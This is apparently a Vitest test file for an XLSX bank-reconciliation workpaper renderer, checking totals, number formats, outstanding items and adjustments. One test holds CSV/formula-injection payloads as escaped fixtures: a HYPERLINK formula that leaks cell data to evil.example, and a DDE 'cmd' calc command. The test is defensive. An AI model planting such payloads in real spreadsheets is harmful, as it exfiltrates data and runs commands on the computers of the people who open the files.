import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildSampleWorkpaper } from './sample-workpaper';
import { renderWorkpaperXlsx } from './workpaper-xlsx';

async function readBack(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  // exceljs declares its own Buffer type; a Node Buffer is what it reads.
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  return workbook;
}

/** Label in column A → the row's column B value, for the proof and header rows. */
function valuesByLabel(sheet: ExcelJS.Worksheet): Map<string, ExcelJS.CellValue> {
  const values = new Map<string, ExcelJS.CellValue>();
  sheet.eachRow((row) => {
    const label = row.getCell(1).value;
    if (typeof label === 'string') {
      values.set(label, row.getCell(2).value);
    }
  });
  return values;
}

function allCells(workbook: ExcelJS.Workbook): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = [];
  workbook.eachSheet((sheet) => {
    sheet.eachRow((row) => {
      row.eachCell((cell) => cells.push(cell));
    });
  });
  return cells;
}

describe('renderWorkpaperXlsx', () => {
  it('lays out the proof as numbers an accountant can foot', async () => {
    const wp = buildSampleWorkpaper();
    const workbook = await readBack(await renderWorkpaperXlsx(wp));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Reconciliation', 'Outstanding items', 'Adjustments', 'Matched summary']);

    const values = valuesByLabel(workbook.getWorksheet('Reconciliation')!);
    expect(values.get('Balance per bank statement')).toBe(1234567.89);
    expect(values.get('Add: deposits in transit')).toBe(Number((wp.proof.depositsInTransitMinor / 100).toFixed(2)));
    expect(wp.proof.outstandingChecksMinor).toBeGreaterThan(0); // a magnitude, subtracted on the workpaper
    expect(values.get('Less: outstanding checks')).toBe(Number((-wp.proof.outstandingChecksMinor / 100).toFixed(2)));
    expect(values.get('Adjusted bank balance')).toBe(Number((wp.proof.adjustedBankBalanceMinor / 100).toFixed(2)));
    expect(values.get('Balance per books')).toBe(Number((wp.proof.bookBalanceMinor / 100).toFixed(2)));
    expect(values.get('Add (less): adjustments')).toBe(-1272.59);
    expect(values.get('Difference')).toBe(0);
    const cents = (label: string) => Math.round((values.get(label) as number) * 100);
    expect(cents('Balance per bank statement') + cents('Add: deposits in transit') + cents('Less: outstanding checks')).toBe(cents('Adjusted bank balance'));
    expect(cents('Balance per books') + cents('Add (less): adjustments')).toBe(cents('Adjusted book balance'));
    expect(values.get('Client')).toBe('Northwind Traders LLC');
    expect(values.get('Prepared by')).toBe('Preparer One, signed off 2026-11-04 09:12 UTC');
    expect(values.get('Reviewed by')).toBe('Reviewer Two, signed off 2026-11-05 16:40 UTC');
    expect(values.get('Generated')).toBe('by Reviewer Two at 2026-11-05 17:02 UTC');
    expect(values.get('Statement date')).toEqual(new Date('2026-10-31T00:00:00Z'));
    expect(values.has('Reconciled — no unexplained difference')).toBe(true);
  });

  it('gives every amount a number format with the currency decimals', async () => {
    const usd = await readBack(await renderWorkpaperXlsx(buildSampleWorkpaper()));
    const jpy = await readBack(await renderWorkpaperXlsx(buildSampleWorkpaper({ currency: 'JPY' })));
    const amountCell = (workbook: ExcelJS.Workbook) => {
      let found: ExcelJS.Cell | undefined;
      workbook.getWorksheet('Reconciliation')!.eachRow((row) => {
        if (row.getCell(1).value === 'Balance per bank statement') {
          found = row.getCell(2);
        }
      });
      return found!;
    };
    expect(amountCell(usd).numFmt).toBe('#,##0.00');
    expect(amountCell(jpy).numFmt).toBe('#,##0');
    expect(amountCell(jpy).value).toBe(123456789);
  });

  it('lists every outstanding check and deposit with its amount, age and total', async () => {
    const wp = buildSampleWorkpaper({ outstandingChecks: 40, depositsInTransit: 5 });
    const sheet = (await readBack(await renderWorkpaperXlsx(wp))).getWorksheet('Outstanding items')!;
    const firstCheck = sheet.getRow(3);
    const check = wp.outstandingChecks[0]!;
    expect(firstCheck.getCell(1).value).toEqual(new Date(`${check.date}T00:00:00Z`));
    expect(firstCheck.getCell(2).value).toBe(check.reference);
    expect(firstCheck.getCell(3).value).toBe(check.description);
    expect(firstCheck.getCell(4).value).toBe(check.amountMinor / 100);
    expect(firstCheck.getCell(5).value).toBe(check.ageDays);
    expect(firstCheck.getCell(6).value).toBe(check.note);
    expect(sheet.getRow(4).getCell(6).value).toBeNull(); // no note: an empty cell, not an empty string

    const totalRow = sheet.getRow(3 + 40);
    expect(totalRow.getCell(1).value).toBe('Total outstanding checks (40)');
    expect(totalRow.getCell(4).value).toBe(Number((-wp.proof.outstandingChecksMinor / 100).toFixed(2)));
    const depositTitle = sheet.getRow(3 + 40 + 2);
    expect(depositTitle.getCell(1).value).toBe('Deposits in transit');
  });

  it('totals adjustments separately as approved and proposed', async () => {
    const sheet = (await readBack(await renderWorkpaperXlsx(buildSampleWorkpaper()))).getWorksheet('Adjustments')!;
    const values = new Map<string, ExcelJS.CellValue>();
    sheet.eachRow((row) => values.set(row.getCell(1).text, row.getCell(6).value));
    expect(values.get('Total approved')).toBe(-22.59);
    expect(values.get('Total proposed, awaiting approval')).toBe(-1250);
  });

  it('writes the matched summary with reasons in words and a total', async () => {
    const sheet = (await readBack(await renderWorkpaperXlsx(buildSampleWorkpaper()))).getWorksheet('Matched summary')!;
    expect(sheet.getRow(2).getCell(1).value).toBe('Same bank transaction id');
    expect(sheet.getRow(2).getCell(2).value).toBe(112);
    const total = sheet.getRow(7);
    expect(total.getCell(1).value).toBe('Total matched');
    expect(total.getCell(2).value).toBe(182);
    expect(total.getCell(4).value).toBe(196);
    expect(total.getCell(5).value).toBe(Number(((-48_211_37 - 96_530_00 + 18_220_15 + 52_004_80 - 1_310_00) / 100).toFixed(2)));
  });

  it('neutralises hostile bank descriptions so no cell is a formula', async () => {
    const wp = buildSampleWorkpaper({ hostileText: true, outstandingChecks: 8 });
    const workbook = await readBack(await renderWorkpaperXlsx(wp));
    const sheet = workbook.getWorksheet('Outstanding items')!;
    const descriptions = [3, 4, 5, 6, 7, 8, 9].map((row) => sheet.getRow(row).getCell(3));
    expect(descriptions.map((cell) => cell.value)).toEqual([
      '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(1)",
      "'\t=1",
      "'\n=1",
      "'\ufffdhidden",
    ]);
    for (const cell of descriptions) {
      expect(cell.formula).toBeUndefined();
      expect(cell.type).toBe(ExcelJS.ValueType.String);
    }
    expect(valuesByLabel(workbook.getWorksheet('Reconciliation')!).get('Client')).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    const formulas = allCells(workbook).filter((cell) => cell.type === ExcelJS.ValueType.Formula);
    expect(formulas).toEqual([]);
    for (const cell of allCells(workbook)) {
      if (typeof cell.value === 'string') {
        expect(cell.value).not.toMatch(/^[=+\-@]/);
      }
    }
  });

  it('keeps negative amounts as numeric cells rather than quoted text', async () => {
    const sheet = (await readBack(await renderWorkpaperXlsx(buildSampleWorkpaper({ hostileText: true })))).getWorksheet('Outstanding items')!;
    const amount = sheet.getRow(3).getCell(4);
    expect(amount.type).toBe(ExcelJS.ValueType.Number);
    expect(amount.value as number).toBeLessThan(0);
  });
});
